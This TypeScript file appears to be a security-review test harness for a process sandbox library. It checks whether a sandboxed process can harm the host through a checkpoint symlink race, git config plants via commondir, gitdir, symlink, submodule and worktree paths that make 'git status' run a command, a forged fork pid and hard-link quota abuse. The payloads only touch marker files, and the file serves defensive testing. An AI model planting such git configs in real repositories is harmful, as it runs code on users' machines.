// The fifth security review's host-side cases (test/integration/redteam4.test.ts): what the
// unconfined host does for a sandbox by path in a directory the sandbox can write, and the
// files that make git run code later. Prints one JSON line.
// Usage: red4-case.js PROBE checkpoint ROUNDS | git

import { execFileSync, spawn } from "node:child_process";
import { SYSTEM_RO } from "../helpers/system.js";
import { chmodSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { Sandbox } from "../../src/index.js";

const probe = process.argv[2]!;
const part = process.argv[3]!;
const base = mkdtempSync("/tmp/sandlock-red4-");
chmodSync(base, 0o755);
const system = ["/usr", "/bin", "/lib", "/lib64", "/etc"];

/**
 * A checkpoint saved into a directory a sandbox can write, while that sandbox swaps the
 * save's temporary directory for a link to a directory it cannot write. Before the fix the
 * host wrote the checkpoint's files through the link. Since the sixth review a checkpoint
 * is never saved where its own policy can write (checkpoint/save-place.ts), so the racer
 * is another sandbox than the one captured (`victim`, which writes nothing).
 */
async function checkpoint(rounds: number): Promise<object> {
  const grant = join(base, "g"), outside = join(base, "outside");
  mkdirSync(grant);
  mkdirSync(outside);
  const sb = new Sandbox({ fsReadable: [probe], fsWritable: [grant] });
  await sb.spawn([probe, "red4-dir-swap", grant, ".cp", outside, String(2000 + rounds * 400)]);
  const victim = new Sandbox({ fsReadable: [probe] });
  await victim.spawn([probe, "sleep", "60"]);
  let saved = 0, wins = 0;
  const errors: string[] = [];
  for (let i = 0; i < rounds; i++) {
    try {
      const cp = await victim.checkpoint();
      await cp.save(join(grant, `cp${i}`));
      saved++;
    } catch (e) {
      errors.push((e as Error).message);
    }
    wins += readdirSync(outside).length;
    rmSync(outside, { recursive: true, force: true });
    mkdirSync(outside);
  }
  const r = await sb.wait();
  await victim.kill("SIGKILL");
  await victim.wait();
  // The control: a checkpoint saved where no racer runs is complete and loads.
  const quiet = join(base, "quiet");
  mkdirSync(quiet);
  const sb2 = new Sandbox({ fsReadable: [probe] });
  await sb2.spawn([probe, "sleep", "5"]);
  const cp2 = await sb2.checkpoint();
  await cp2.save(join(quiet, "cp"));
  await sb2.kill("SIGKILL");
  await sb2.wait();
  const { Checkpoint } = await import("../../src/index.js");
  const loaded = (await Checkpoint.load(join(quiet, "cp"))).processes.length;
  return { swaps: Number(/swaps (\d+)/.exec(r.stdoutText)?.[1] ?? -1), out: r.stdoutText.trim(), saved, wins, errors: [...new Set(errors.map((m) => m.replace(/cp\d+/g, "cpN").replace(/red4-[A-Za-z0-9]{6}/g, "red4-X").replace(/\.tmp-[0-9a-f]+/g, ".tmp-X")))], controlLoaded: loaded };
}

/** `git status` as the user would type it next, outside any sandbox: whether it ran the
 * command the sandbox planted (its marker file appeared). */
function gitRunsPlanted(repo: string, marker: string): boolean {
  try {
    execFileSync("git", ["-C", repo, "status", "--short"], { env: { PATH: "/usr/bin:/bin", HOME: base, GIT_CONFIG_NOSYSTEM: "1" }, stdio: "ignore" });
  } catch {
    // a broken repository is no win; the marker decides
  }
  return existsSync(marker);
}

/** A config that runs a command on every `git status` (core.fsmonitor is run as a hook). */
const evilConfig = (marker: string): string => `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch ${marker}; false"\n`;

/**
 * protectedFiles keeps .git/config and .git/hooks from changing, but git reads its config
 * and hooks from elsewhere when told so by files the sandbox can write: `.git/commondir`
 * (in an existing repository: the common directory, config and hooks included, is the one
 * it names), and `.git` itself as a file ("gitdir: PATH") or a symbolic link where there
 * was no repository. Each way, with a workdir (the commit must hold it back) and without;
 * protectedFiles off is the control (the planted command runs).
 */
async function gitRedirect(): Promise<object> {
  const out: Record<string, Record<string, boolean | string>> = {};
  const ways: Record<string, { repo: boolean; sh: (m: string) => string }> = {
    commondir: { repo: true, sh: (m) => `cp -r .git evil && printf '${evilConfig(m)}' > evil/config && echo ../evil > .git/commondir` },
    gitfile: { repo: false, sh: (m) => `mkdir -p evil/objects evil/refs && echo 'ref: refs/heads/main' > evil/HEAD && printf '${evilConfig(m)}' > evil/config && echo 'gitdir: evil' > .git` },
    symlink: { repo: false, sh: (m) => `mkdir -p evil/objects evil/refs && echo 'ref: refs/heads/main' > evil/HEAD && printf '${evilConfig(m)}' > evil/config && ln -s evil .git` },
  };
  for (const [way, { repo, sh }] of Object.entries(ways)) {
    out[way] = {};
    for (const workdir of [false, true]) {
      for (const on of [true, false]) {
        const key = `${workdir ? "workdir" : "grant"}-${on ? "protected" : "allowed"}`;
        const r = join(base, `${way}-${key}`);
        mkdirSync(r);
        if (repo) {
          execFileSync("git", ["init", "-q", r]);
          execFileSync("git", ["-C", r, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "one"]);
        }
        const marker = join(base, `${way}-${key}.pwned`);
        const where = workdir ? { workdir: r, fsStorage: join(base, `${way}-${key}.store`), cwd: r } : { fsWritable: [r], cwd: r };
        const res = await Sandbox.run({ fsReadable: system, ...where, protectedFiles: on }, ["/bin/sh", "-c", sh(marker)], { timeout: 60_000 });
        out[way]![key] = res.exitCode !== 0 ? `exit ${res.exitCode}: ${res.stderrText.trim()}` : gitRunsPlanted(r, marker);
      }
    }
  }
  return out;
}

/**
 * The git directories of submodules (`.git/modules/NAME`: their config is read by the
 * superproject's `git status`, which looks into every submodule) and of linked worktrees
 * (`.git/worktrees/NAME/commondir`: where a worktree outside the grant takes its config)
 * are not protected names. A sandbox granted the superproject plants a config in each; the
 * user's `git status` (in the superproject, in the worktree beside it) runs it. With
 * protectedFiles on and off (the control).
 */
async function gitNested(): Promise<object> {
  const out: Record<string, Record<string, boolean | string>> = { modules: {}, worktrees: {} };
  // stderr: what the sandbox was refused (EROFS where the names are protected).
  const id = ["-c", "user.name=t", "-c", "user.email=t@t", "-c", "protocol.file.allow=always"];
  for (const on of [true, false]) {
    const key = on ? "protected" : "allowed";
    const d = join(base, `nested-${key}`);
    mkdirSync(d);
    const lib = join(d, "lib"), sup = join(d, "sup"), wt = join(d, "wt");
    execFileSync("git", ["init", "-q", lib]);
    execFileSync("git", ["-C", lib, ...id, "commit", "-q", "--allow-empty", "-m", "lib"]);
    execFileSync("git", ["init", "-q", sup]);
    execFileSync("git", ["-C", sup, ...id, "submodule", "-q", "add", lib, "lib"], { env: { PATH: "/usr/bin:/bin", HOME: base } });
    execFileSync("git", ["-C", sup, ...id, "commit", "-qm", "sup"]);
    execFileSync("git", ["-C", sup, ...id, "worktree", "add", "-q", wt], { env: { PATH: "/usr/bin:/bin", HOME: base } });
    const mMod = join(d, "modules.pwned"), mWt = join(d, "worktrees.pwned");
    const sh = `printf '${evilConfig(mMod).replace("[core]\\n\\trepositoryformatversion = 0\\n", "[core]\\n")}' >> .git/modules/lib/config; ` +
      `cp -r .git evil; rm -rf evil/worktrees evil/modules; printf '${evilConfig(mWt)}' > evil/config && echo ../../../evil > .git/worktrees/wt/commondir`;
    const res = await Sandbox.run({ fsReadable: system, fsWritable: [sup], cwd: sup, protectedFiles: on }, ["/bin/sh", "-c", sh], { timeout: 60_000 });
    out.modules![key] = gitRunsPlanted(sup, mMod);
    out.worktrees![key] = gitRunsPlanted(wt, mWt);
    out.modules![`${key}-stderr`] = res.stderrText.trim();
  }
  return out;
}

/**
 * A fork group's zygote runs the sandbox's code (init), so what it reports is the sandbox's
 * word. This init rewrites the "forked" report: it waits for the clone it made to exit,
 * reaps it (its pidfd then names no process: fdinfo's Pid is -1) and reports `TARGET`, a
 * process group of the host, as the clone's pid. The parent took the reported pid for a
 * pidfd whose process is gone, and a clone's kill signals its process group by number.
 */
const EVIL_ZYGOTE = `
import { createRequire } from "node:module";
const native = createRequire(import.meta.url)(process.argv[2]);
const stringify = JSON.stringify;
export function init() {
  JSON.stringify = function (v, ...rest) {
    if (v && v.op === "forked" && Array.isArray(v.pids)) {
      const want = new Set(v.pids), nap = new Int32Array(new SharedArrayBuffer(4));
      for (let i = 0; i < 500 && want.size > 0; i++) {
        for (const [pid] of native.reapClones()) want.delete(pid);
        if (want.size > 0) Atomics.wait(nap, 0, 0, 10);
      }
      v = { ...v, pids: v.pids.map(() => Number(process.env.TARGET)) };
    }
    return stringify(v, ...rest);
  };
}
export function work() {}
`;

/** The host process group the forged clone pid names: alive after the clone's kill? And the
 * control: a real clone's kill ends the clone. */
async function forkPid(): Promise<object> {
  const victim = spawn("sleep", ["60"], { detached: true, stdio: "ignore" }); // a process group of its own
  let victimSignal: string | null = null;
  victim.on("exit", (_c, sig) => { victimSignal = sig; });
  const mod = join(base, "zygote-evil.mjs");
  writeFileSync(mod, EVIL_ZYGOTE);
  const policy = { fsReadable: [...SYSTEM_RO, base], env: { TARGET: String(victim.pid) } };
  const out: Record<string, unknown> = { target: victim.pid };
  {
    await using sb = Sandbox.newWithFns(policy, { module: mod });
    try {
      const [clone] = await sb.fork(1);
      out.clonePid = (clone as unknown as { pid: number | undefined }).pid ?? null;
      await Promise.race([clone!.kill().catch((e: Error) => e.message), new Promise((r) => setTimeout(r, 2000))]);
    } catch (e) {
      out.refused = (e as Error).message;
    }
  }
  await new Promise((r) => setTimeout(r, 300));
  out.victim = victimSignal ?? "alive";
  if (victimSignal === null) process.kill(-victim.pid!, "SIGKILL");
  // Control: a clone that sleeps is ended by its kill (its group is signalled).
  const good = join(base, "zygote-good.mjs");
  writeFileSync(good, "export function init() {}\nexport function work() { Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 30000); }\n");
  {
    await using sb = Sandbox.newWithFns({ fsReadable: [...SYSTEM_RO, base] }, { module: good });
    const [clone] = await sb.fork(1);
    await clone!.kill();
    const r = await clone!.wait().catch((e: Error) => ({ signal: e.message }));
    out.control = (r as { signal?: unknown }).signal ?? null;
  }
  return out;
}

const lines = (out: string): Record<string, string> => Object.fromEntries(out.trim().split("\n").filter((l) => l.length > 0).map((l) => l.split(" ") as [string, string]));

/** fsDenied: the probe's red4-deny-reach ops with the file and directory denied, and with the
 * same policy without fsDenied (the control: the file is read). */
async function denyReach(): Promise<object> {
  const out: Record<string, object> = {};
  for (const mode of ["denied", "control"] as const) {
    const w = join(base, mode), secret = join(w, "sub", "secret"), sdir = join(w, "sub", "sdir"), other = join(w, "sub", "other");
    mkdirSync(sdir, { recursive: true });
    writeFileSync(secret, "secret\n");
    writeFileSync(join(sdir, "f"), "inner\n");
    writeFileSync(other, "other\n");
    // The supervised view (pinned): the ops go through /proc/self/root and the supervisor's
    // /proc/<pid>/root, which the kernel view's root has no /proc for here; its covers are
    // attacked in kernel-view.test's "covers" case.
    const policy = { procView: "supervised" as const, fsReadable: [probe, ...system], fsWritable: [w], ...(mode === "denied" ? { fsDenied: [secret, sdir] } : {}) };
    const r = await Sandbox.run(policy, [probe, "red4-deny-reach", secret, sdir, other, String(process.pid)], { timeout: 60_000 });
    out[mode] = { exit: r.exitCode, ops: lines(r.stdoutText), stderr: r.stderrText.slice(0, 2000) };
  }
  return out;
}

/** Allocated bytes under dir, each inode once, and how many names it holds. */
function usage(dir: string): { names: number; inodes: number; bytes: number } {
  const seen = new Set<bigint>();
  let names = 0, bytes = 0;
  for (const name of readdirSync(dir)) {
    const st = lstatSync(join(dir, name), { bigint: true });
    if (!st.isFile()) continue;
    names++;
    if (seen.has(st.ino)) continue;
    seen.add(st.ino);
    bytes += Number(st.blocks) * 512;
  }
  return { names, inodes: seen.size, bytes };
}

/**
 * maxDisk: hard links cost the stage's tmpfs an inode each and no data. The host copied
 * every name as a file of its own into the branch, and the commit did again into the
 * workdir: 200 names of a 900 KB file under a 1 MB quota took 180 MB of the host's disk.
 * Kept branch and committed workdir, measured each inode once; the control: the file's own
 * 900 KB are allocated (the measure sees data).
 */
async function hardLinks(): Promise<object> {
  const out: Record<string, object> = {};
  const MAKE = "head -c 900000 /dev/zero | tr '\\0' x > f && i=0 && while [ $i -lt 200 ]; do ln f l$i || exit 1; i=$((i+1)); done && echo made";
  for (const onExit of ["keep", "commit"] as const) {
    const work = join(base, `w-${onExit}`), storage = join(base, `s-${onExit}`);
    mkdirSync(work);
    const r = await Sandbox.run({ fsReadable: [...system, "/dev/zero"], fsWritable: ["/dev/null"], workdir: work, fsStorage: storage, cwd: work, maxDisk: "1M", onExit }, ["/bin/sh", "-c", MAKE], { timeout: 120_000 });
    const where = onExit === "keep" ? join(storage, r.workdir!.branch!, "upper") : work;
    out[onExit] = { stdout: r.stdoutText.trim(), action: r.workdir?.action, ...usage(where), content: readFileSync(join(where, "l199"), "latin1") === "x".repeat(900000) };
  }
  return out;
}

const parts: Record<string, () => Promise<unknown>> = {
  links: hardLinks,
  deny: denyReach,
  checkpoint: () => checkpoint(Number(process.argv[4] ?? "20")),
  git: gitRedirect,
  "fork-pid": forkPid,
  "git-nested": gitNested,
};
try {
  console.log(JSON.stringify(await parts[part]!()));
} finally {
  rmSync(base, { recursive: true, force: true });
}
